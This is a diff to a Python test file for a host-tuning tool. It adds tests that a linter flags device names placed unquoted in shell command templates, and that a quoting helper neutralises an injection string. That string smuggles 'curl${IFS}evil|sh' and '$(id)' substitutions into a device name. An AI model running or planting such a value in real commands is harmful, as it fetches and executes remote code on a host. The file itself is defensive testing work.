@@ -2,15 +2,19 @@
 
 from __future__ import annotations
 
+import json
+import subprocess
+
 import pytest
 
 from hosttune.actions.examine import examine
 from hosttune.engine.catalog import assembled, builtin_catalog, load_catalog
-from hosttune.engine.lint import checked_rule, key_faults, rule_faults
+from hosttune.engine.expressions import compile_text
+from hosttune.engine.lint import checked_rule, key_faults, lint_faults, rule_faults
 from hosttune.engine.policy import Policy
 from hosttune.engine.policy_file import load_policy
 from hosttune.engine.yamlio import load_document
-from hosttune.errors import BadInput, HosttuneError
+from hosttune.errors import BadInput, HosttuneError, Where
 from hosttune.rendering import render
 from hosttune.values import HoldKind, Verdict
 from tests.unit.fake_reader import FakeReader
@@ -316,3 +320,41 @@ def test_value_that_a_field_does_not_take_is_told_of_its_rule(wish, said):
     assert findings["site-swappiness"].verdict is Verdict.UNKNOWN
     assert said in findings["site-swappiness"].reason
     assert "memory-swappiness" in findings
+
+
+@pytest.mark.parametrize(
+    ("do", "parts"),
+    [
+        ("sudo ip link set {{ item.name }} mtu {{ item.size_bytes }}", ["item.name"]),
+        ("sudo ip link set {{ shell_word(item.name) }} mtu {{ item.size_bytes + 1 }}", []),
+        ('see "$(systemd-escape {{ item.name }})"', ["item.name"]),
+        ("`cat {{ item.name }}` tells", ["item.name"]),
+        ("{{ 'sudo rm ' + item.name if item.size_bytes > 1 else 'nothing ' + str(item.size_bytes) }}", ["item.name"]),
+        ("sudo rm {{ join([item.name], ' ') }} {{ join([shell_word(d.name) for d in disks.all], ' ') }}", ["join([item.name], ' ')"]),
+        ("sudo rm {{ join([d.name for d in disks.all], item.name) }}", ["d.name", "item.name"]),
+        ("sudo rm {{ lower(shell_word(item.name)) }}", ["lower(shell_word(item.name))"]),
+        ("look at {{ item.name }}", []),
+    ],
+)  # fmt: skip
+def test_lint_tells_a_name_that_stands_in_a_command_without_quotes(do, parts):
+    """What a device, a mount point or a package is called comes from the host; people copy the command."""
+    text = (
+        RULE[: RULE.index("want:")]
+        + f"""for_each: disks.all
+expect:
+  - if: item.size_bytes == 0
+    else: x
+    do: {json.dumps(do)}
+"""
+    )
+    document = load_document(text, "site-swappiness.yaml")
+    assert not [fault for fault in rule_faults(document) if "size_bytes" not in fault.message]
+    assert [fault.message for fault in lint_faults(document)] == [
+        f"`{one}` stands in a command without quotes" for one in parts
+    ]
+
+
+def test_shell_word_is_one_word_for_a_shell():
+    name = "/data2;curl${IFS}evil|sh;#'$(id)`id`\n"
+    text = compile_text("printf %s {{ shell_word(item) }}", Where("x.yaml")).evaluate({"item": name})
+    assert subprocess.run(["sh", "-c", text], capture_output=True, text=True, check=True).stdout == name
